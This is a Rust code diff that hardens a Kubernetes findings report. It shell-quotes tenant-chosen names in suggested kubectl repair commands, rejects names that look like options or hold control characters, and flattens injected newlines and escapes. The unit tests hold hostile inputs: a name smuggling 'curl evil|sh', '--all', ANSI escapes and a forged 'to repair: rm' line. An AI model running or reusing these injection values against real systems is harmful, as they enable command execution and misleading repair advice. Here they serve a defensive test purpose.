@@ -4,6 +4,7 @@ use std::fmt::Write as _;
 
 use serde::Serialize;
 
+use crate::init::shell_word;
 use crate::runtime::fleet::Cluster;
 
 /// How bad it is.
@@ -67,6 +68,20 @@ pub struct Finding {
     pub repair: Option<String>,
 }
 
+/// A command as it can be pasted into a shell, with these names of objects in it. None where a name could be taken for
+/// something else: tenants choose names, and consumers some of them.
+#[must_use]
+pub(super) fn command(words: &[&str], names: &[&str]) -> Option<String> {
+    let is_harmless = |name: &&str| !name.starts_with('-') && !name.chars().any(char::is_control);
+    let quoted: Vec<String> = words.iter().map(|word| shell_word(word)).collect();
+    names.iter().all(is_harmless).then(|| quoted.join(" "))
+}
+
+/// Text that others wrote, on one line: nobody but us says what repairs something.
+fn line(text: &str) -> String {
+    text.replace(char::is_control, " ")
+}
+
 /// The findings as paragraphs.
 #[must_use]
 pub(super) fn text(findings: &[Finding], clusters: usize) -> String {
@@ -83,8 +98,9 @@ pub(super) fn text(findings: &[Finding], clusters: usize) -> String {
         let slash = if namespace.is_empty() { "" } else { "/" };
         let _ = writeln!(
             text,
-            "{severity} {}: {kind} {namespace}{slash}{name}{place}\n  {}",
-            finding.reason, finding.message
+            "{severity} {}\n  {}",
+            line(&format!("{}: {kind} {namespace}{slash}{name}{place}", finding.reason)),
+            line(&finding.message)
         );
         if let Some(repair) = &finding.repair {
             let _ = writeln!(text, "  to repair: {repair}");
@@ -105,6 +121,37 @@ pub(super) fn text(findings: &[Finding], clusters: usize) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn no_name_is_more_than_a_word_of_a_command() {
+        let delete = |name| command(&["kubectl", "delete", "clusterrole", name], &[name]);
+        for (name, expected) in [
+            ("kube-binder", Some("kubectl delete clusterrole kube-binder")),
+            ("x;curl evil|sh", Some("kubectl delete clusterrole 'x;curl evil|sh'")),
+            ("it's", Some(r"kubectl delete clusterrole 'it'\''s'")),
+            ("--all", None),
+            ("a\nb", None),
+            ("a\u{1b}[2K", None),
+        ] {
+            assert_eq!(delete(name).as_deref(), expected, "{name:?}");
+        }
+    }
+
+    #[test]
+    fn what_others_wrote_stays_on_its_line() {
+        let finding = Finding {
+            severity: Severity::Error,
+            reason: "Bad\nReason".into(),
+            object: Object { kind: "Role".into(), name: "a\u{1b}b".into(), ..Object::default() },
+            message: "it is\n  to repair: rm".into(),
+            repair: None,
+        };
+        let text = text(&[finding], 0);
+        assert!(
+            text.starts_with("error Bad Reason: Role a b\n  it is   to repair: rm\n\n"),
+            "{text}"
+        );
+    }
 
     #[test]
     fn a_finding_is_a_paragraph_with_what_it_is_about_why_and_what_to_do() {
